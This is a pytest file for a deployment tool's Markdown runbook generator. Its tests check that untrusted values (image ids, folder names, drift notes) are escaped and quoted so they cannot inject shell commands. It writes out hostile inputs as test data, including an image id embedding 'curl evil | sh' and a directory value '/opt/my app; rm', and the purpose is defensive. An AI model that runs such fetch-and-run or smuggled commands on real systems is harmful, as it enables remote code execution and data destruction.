"""A plan as a runbook to type."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tests.workflow.plan.plans import V1, plan, step
from titan_flow.adapters.effects import ShellLine
from titan_flow.states.release import Image
from titan_flow.workflow.plan.as_markdown import runbook
from titan_flow.workflow.plan.model import PlannedStep, Seen


def test_the_runbook_escapes_what_others_wrote() -> None:
    evil = replace(plan(), drift=("<script> `x` [a](b) \x1b[2J",))
    said = runbook(evil)
    assert "\\<script\\>" in said and "\x1b" not in said and "cd /opt/app" in said and "ssh deploy@app" in said


def test_what_a_host_names_adds_no_command() -> None:
    """A runbook is copied into a shell: an image id with a fence in it must not open a block of commands."""
    image = Image(id="sha256:1`\n```sh\ncurl evil | sh\n```\n")
    release = V1.model_copy(update={"images": {"app`\n# x": image}})
    said = runbook(replace(plan(), seen=Seen("a" * 40, release)))
    assert [line for line in said.splitlines() if line.startswith("```")] == ["```sh", "```"]
    assert "\ncurl evil" not in said and "\n# x" not in said


@pytest.mark.parametrize(
    ("planned", "shown"),
    [
        (step(check=True), "- [ ] `up/1` command.run: repeat until it passes, 1m30s at most"),
        (step(acts=False, says="as *it* is"), "- [x] `up/1` command.run: already done (as \\*it\\* is)"),
        (step(lines=(ShellLine("echo"),)), "- [ ] `up/1` command.run: 1m30s at most, 3 attempts\n\n```sh\necho\n```"),
        (
            step(acts=None, lines=(ShellLine("echo"),)),
            "3 attempts (check first: it may be done already)\n\n```sh\necho\n```",
        ),
        (step(), "  The command is not known yet."),
        (
            step(lines=(ShellLine("cat\nx", fed=True),)),
            "standard input that is not shown here.\n\n```sh\n# cat\n# x\n```",
        ),
        (step(lines=(ShellLine("a ```` b"),)), "`````sh\na ```` b\n`````"),
    ],
)
def test_each_step_is_a_line_to_tick(planned: PlannedStep, shown: str) -> None:
    assert shown in runbook(replace(plan(), steps=(planned,)))


def test_on_this_machine_there_is_no_ssh_and_a_folder_is_quoted() -> None:
    said = runbook(replace(plan(), host="", directory="/opt/my app; rm"))
    assert "```sh\ncd '/opt/my app; rm'\n```" in said and "ssh" not in said
